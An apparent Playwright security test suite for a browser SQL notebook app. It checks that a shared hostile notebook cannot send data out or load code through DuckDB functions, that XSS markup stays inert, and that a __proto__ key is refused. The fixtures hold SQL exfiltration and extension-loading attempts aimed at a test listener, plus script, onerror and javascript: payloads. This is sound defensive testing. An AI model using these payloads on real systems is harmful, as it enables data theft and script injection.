import type { Page } from '@playwright/test';
import { ORIGIN } from './support/address.ts';
import { put, shopCsv } from './support/files.ts';
import { listen, type Listener } from './support/listener.ts';
import {
  SLOW,
  addCell,
  button,
  cell,
  confirmMapping,
  dropAndRead,
  mappedFile,
  openSmall,
  openStart,
  runSql,
  settled,
  states,
} from './support/page.ts';
import { expect, test } from './support/test.ts';
import { withoutLock, withoutPolicy } from './support/weaken.ts';
import { calling } from './support/guard.ts';

test.use({ hostile: true });

let world: Listener;
test.beforeEach(async ({ context }) => {
  world = await listen();
  // The browser's own guard of the local network is off: ours have to hold without it.
  await context.grantPermissions(['local-network-access']);
});
test.afterEach(async ({ context }) => {
  await context.clearPermissions();
  await world.close();
});

/** What a shared notebook might try in order to send data out or bring code in. */
const attempts = (url: string): Record<string, string> => ({
  reads_csv: `SELECT * FROM read_csv('${url}/read.csv')`,
  reads_text: `SELECT * FROM read_text('${url}/read.txt')`,
  reads_blob: `SELECT * FROM read_blob('${url}/read.bin')`,
  reads_bare: `SELECT * FROM '${url}/bare.csv'`,
  reads_parquet: `SELECT * FROM read_parquet('${url}/x.parquet')`,
  leaks_in_url: `SELECT * FROM read_csv('${url}/leak.csv?' || (SELECT 'secret'))`,
  globs: `SELECT * FROM glob('${url}/*')`,
  copies: `SELECT 1 AS a; COPY (SELECT 'secret' AS s) TO '${url}/copy.csv'`,
  attaches: `SELECT 1 AS a; ATTACH '${url}/other.db' AS other`,
  installs: `SELECT 1 AS a; INSTALL httpfs FROM '${url}'`,
  loads: `SELECT 1 AS a; LOAD '${url}/evil.duckdb_extension.wasm'`,
  unlocks: 'SELECT 1 AS a; SET enable_external_access=true; RESET lock_configuration',
  repository: `SELECT 1 AS a; SET custom_extension_repository='${url}'; INSTALL spatial`,
  exports_all: `SELECT 1 AS a; EXPORT DATABASE '${url}/all'`,
  turned: `SELECT * FROM read_csv('${url}/turned.csv') -- \u202e\u2066`,
});

const notebook = (cells: object[]) =>
  JSON.stringify({ format: 'cellar-notebook', version: 1, title: 'Shared', cells });

async function openHostile(page: Page, folder: string): Promise<string[]> {
  const cells = Object.entries(attempts(world.url)).map(([name, sql]) => ({ name, template: 'sql', sql }));
  const path = put(folder, 'shared.cellar.json', notebook(cells));
  await page.locator('input[data-testid="open-notebook-file"]').setInputFiles(path);
  await expect(page.getByTestId('inert')).toBeVisible(SLOW);
  // The first page lists every SQL that is not Cellar's own, as it is written.
  const brought = page.locator('[data-brought="sql"]');
  await expect(brought).toHaveCount(cells.length);
  await brought.first().locator('summary').click();
  await expect(brought.first().locator('pre')).toHaveText(cells[0]!.sql);
  // What would turn the order in which it is read is written out.
  await expect(brought.last().locator('pre')).toContainText('⟨U+202E⟩⟨U+2066⟩');
  return cells.map((c) => c.name);
}

async function runAll(page: Page): Promise<Record<string, string>> {
  await button(page, 'run-all').click();
  await expect(page.getByTestId('inert')).toHaveCount(0);
  await expect
    .poll(async () => Object.values(await states(page)).filter((s) => s === 'idle'), SLOW)
    .toEqual([]);
  return settled(page);
}

/** The functions that reach out. */
const withoutGuard = (page: Page) => calling(page, 'read_csv read_text read_blob read_parquet glob');

const ACCESS = /SET (?:allowed_directories=\['in\/'\]|enable_external_access=false|lock_configuration=true)/g;
const EVERYTHING =
  /SET (?:autoinstall_known_extensions|autoload_known_extensions|allow_community_extensions|allow_unsigned_extensions|allow_persistent_secrets|enable_external_access|lock_configuration)=(?:true|false)|SET allowed_directories=\['in\/'\]/g;

const MARKDOWN = `# Hello <script>window.hacked = 1</script>

<img src="x" onerror="window.hacked = 1"> ![pixel](URL/pixel.png)

<svg onload="window.hacked = 1"></svg> <iframe src="URL/frame"></iframe> <style>@import 'URL/s.css'</style>

[click](javascript:window.hacked=1) [out](URL/page) [data](data:text/html,<script>window.hacked=1</script>)
`;
const HTML = '<img src=x onerror="window.hacked=1">';

test.describe('in a page that goes on', () => {
  test.use({ goesOn: true });

  test('a hostile notebook runs nothing by itself and reaches nobody when it is run', async ({
    page,
    folder,
    foreign,
  }) => {
    await openStart(page);
    const names = await openHostile(page, folder);
    await expect.poll(async () => Object.values(await states(page))).toEqual(names.map(() => 'idle'));
    expect(world.log).toEqual([]);
    const reached = await runAll(page);
    expect(reached).toEqual(Object.fromEntries(names.map((name) => [name, 'error'])));
    await expect(cell(page, 'reads_csv').locator('[data-fault]')).toHaveAttribute(
      'data-fault',
      'sql-function',
    );
    expect(world.log).toEqual([]);
    expect(foreign).toEqual([]);
    await expect(page.getByTestId('seal')).toHaveAttribute('data-foreign', '0');

    const name = await addCell(page, 'sql');
    await runSql(page, name, 'SELECT 1 AS still_alive');
    await expect(button(cell(page, name), 'download-csv')).toBeVisible();
  });

  test('script, images and links in a shared text or chart stay words', async ({ page, folder }) => {
    const label = { zh: HTML, en: HTML };
    const chart = {
      kind: 'bar',
      title: label,
      x: { column: 'a', label, href: 'javascript:window.hacked=1' },
      y: { column: 'b', label },
      href: `${world.url}/mark`,
      src: `${world.url}/image.png`,
      style: `background: url(${world.url}/style)`,
      marks: [{ type: 'image', src: `${world.url}/i.png` }],
      annotations: [{ axis: 'y', value: 1, label }],
    };
    const path = put(
      folder,
      'words.cellar.json',
      notebook([
        {
          name: 'words',
          template: 'text',
          title: HTML,
          text: { body: MARKDOWN.replaceAll('URL', world.url) },
        },
        {
          name: 'drawn',
          template: 'sql',
          title: HTML,
          sql: `SELECT '${HTML}' AS a, 2 AS b UNION ALL SELECT 'x', 3`,
          chart,
        },
        { name: 'report', template: 'report', text: { summary: MARKDOWN.replaceAll('URL', world.url) } },
      ]),
    );
    await openStart(page);
    await page.locator('input[data-testid="open-notebook-file"]').setInputFiles(path);
    await expect(cell(page, 'words')).toContainText('Hello');
    // As it was typed, until somebody has looked.
    await expect(cell(page, 'words').locator('[data-link]')).toHaveCount(0);
    await runAll(page);
    const drawn = cell(page, 'drawn');
    await drawn.locator('[data-tab="chart"]').click();
    await expect(drawn.locator('.figure svg').first()).toBeVisible();
    const foreignParts = () =>
      page
        .locator('section[data-cell]')
        .locator(
          'script, img, iframe, object, embed, image, foreignObject, a[href^="javascript:"], a[href^="http"], [onerror], [onload], [style*="url("]',
        )
        .evaluateAll((found) => found.map((f) => f.outerHTML.slice(0, 200)));
    expect(await foreignParts()).toEqual([]);
    expect(await drawn.locator('.figure a').count()).toBe(0);
    await drawn.locator('[data-tab="table"]').click();
    await expect(drawn.getByRole('gridcell').first()).toHaveText(HTML);
    expect(await foreignParts()).toEqual([]);

    await cell(page, 'words').locator('[data-link]', { hasText: 'out' }).click();
    await expect(page.getByRole('dialog')).toContainText(world.url); // asked first
    await page.keyboard.press('Escape');
    const links = await cell(page, 'words')
      .locator('[data-link]')
      .evaluateAll((found) => found.map((f) => (f as HTMLElement).dataset['link']));
    for (const link of links) expect(link).toMatch(/^https?:/);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(world.log).toEqual([]);
  });

  test('HTML in column names and values is shown as it is', { tag: '@whole' }, async ({ page, folder }) => {
    const name = '<img src=x onerror=window.hacked=1>';
    const heads = ['order_id', 'order_date', 'customer_id', name, 'quantity', 'unit_price', '__proto__'];
    const rows = shopCsv().trimEnd().split('\n').slice(1);
    const text = [
      heads.join(','),
      ...rows.map((row) => `${row.replace(/Kettle|Grinder/, name)},${name}`),
    ].join('\n');
    await openSmall(page, ['dictionary']);
    await dropAndRead(page, [put(folder, 'html.csv', text)]);
    const file = mappedFile(page, 'html.csv');
    await expect(file).toHaveAttribute('data-read', '300');
    await expect(file.locator(`[data-column="${name}"]`)).toBeVisible();
    await file.locator(`[data-column="${name}"] .means select`).selectOption('product');
    await confirmMapping(page);
    await expect(cell(page, 'dictionary')).toContainText(name);
    const sql = await addCell(page, 'sql');
    await runSql(page, sql, 'SELECT product, count(*) AS n FROM orders GROUP BY product');
    await expect(button(cell(page, sql), 'download-csv')).toBeVisible(SLOW);
    await cell(page, sql).locator('[data-tab="table"]').click();
    await expect(cell(page, sql).getByRole('gridcell').first()).toHaveText(name);
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.evaluate(() => ['hacked' in window, 'n' in {}])).toEqual([false, false]);
  });

  test('a notebook with a __proto__ key is refused and pollutes nothing', async ({ page, folder }) => {
    await openStart(page);
    const text = '{"format":"cellar-notebook","version":1,"cells":[],"goal":{"__proto__":{"polluted":true}}}';
    await page
      .locator('input[data-testid="open-notebook-file"]')
      .setInputFiles(put(folder, 'p.cellar.json', text));
    await expect(page.getByRole('alert').first()).toContainText('unsafe field name');
    expect(await page.evaluate(() => ({}) as { polluted?: boolean })).not.toHaveProperty('polluted');
    expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
  });
});

test(
  'the lock alone is enough: without the policy nothing gets out',
  { tag: '@whole' },
  async ({ page, folder }) => {
    await withoutGuard(page);
    await withoutPolicy(page);
    await openStart(page);
    // Without the policy the page itself could reach it: one of its own, since the browser may open a second
    // connection to a host that is slow to answer, and later than this.
    const control = await listen();
    await page.evaluate((url) => fetch(url), `${control.url}/control`);
    expect(control.log).toContain('GET /control');
    await control.close();
    const names = await openHostile(page, folder);
    const reached = await runAll(page);
    expect(reached).toEqual(Object.fromEntries(names.map((name) => [name, 'error'])));
    // Stopped by the engine, not before it.
    await expect(cell(page, 'reads_csv').locator('[data-fault]')).toContainText(
      /locked|disabled|permission/i,
    );
    expect(world.log).toEqual([]);
  },
);

for (const [words, statements, tag] of [
  ['open to files and network', ACCESS, '@long'],
  ['without a single setting', EVERYTHING, '@whole'],
] as const)
  test(
    `the policy alone is enough: an engine ${words} gets nothing out`,
    { tag },
    async ({ page, folder }) => {
      await withoutGuard(page);
      await withoutLock(page, statements);
      await openStart(page);
      await openHostile(page, folder);
      await runAll(page);
      expect(world.log).toEqual([]);
      expect(await page.evaluate((url) => fetch(url).catch(() => 'stopped'), world.url)).toBe('stopped');
      expect(world.log).toEqual([]);
    },
  );

test(
  'the workers without a network are enough: an open engine without the policy gets nothing out',
  { tag: '@whole' },
  async ({ page, folder }) => {
    await withoutGuard(page);
    await withoutPolicy(page);
    await withoutLock(page, ACCESS, { shut: true });
    await openStart(page);
    await openHostile(page, folder);
    await runAll(page);
    expect(world.log).toEqual([]);
    const seal = page.getByTestId('seal');
    await expect(seal).toHaveAttribute('data-foreign', '0');
    await expect.poll(async () => Number(await seal.getAttribute('data-stopped'))).toBeGreaterThan(0);
  },
);

test.describe('without any of the three', () => {
  test.use({ broken: true });
  test(
    'the server does hear it, and the ledger says so: the tests above can fail',
    { tag: '@whole' },
    async ({ page, folder }) => {
      await withoutGuard(page);
      await withoutPolicy(page);
      await withoutLock(page, ACCESS);
      await openStart(page);
      await openHostile(page, folder);
      await button(page, 'run-all').click();
      await expect
        .poll(() => world.log.filter((entry) => entry.includes('read.csv')).length, SLOW)
        .toBeGreaterThan(0);
      await expect
        .poll(async () => Number(await page.getByTestId('seal').getAttribute('data-foreign')), SLOW)
        .toBeGreaterThan(0);
    },
  );
});

test('the page does not run inside a page of another origin', async ({ page }) => {
  const outer = await listen(
    `<!doctype html><iframe src="${ORIGIN}/?lang=en" width="900" height="700"></iframe>`,
  );
  await page.goto(outer.url);
  const inner = page.frameLocator('iframe');
  await expect(inner.locator('body')).toContainText('does not run inside another page');
  await expect(inner.locator('main')).toHaveCount(0);
  await outer.close();
});
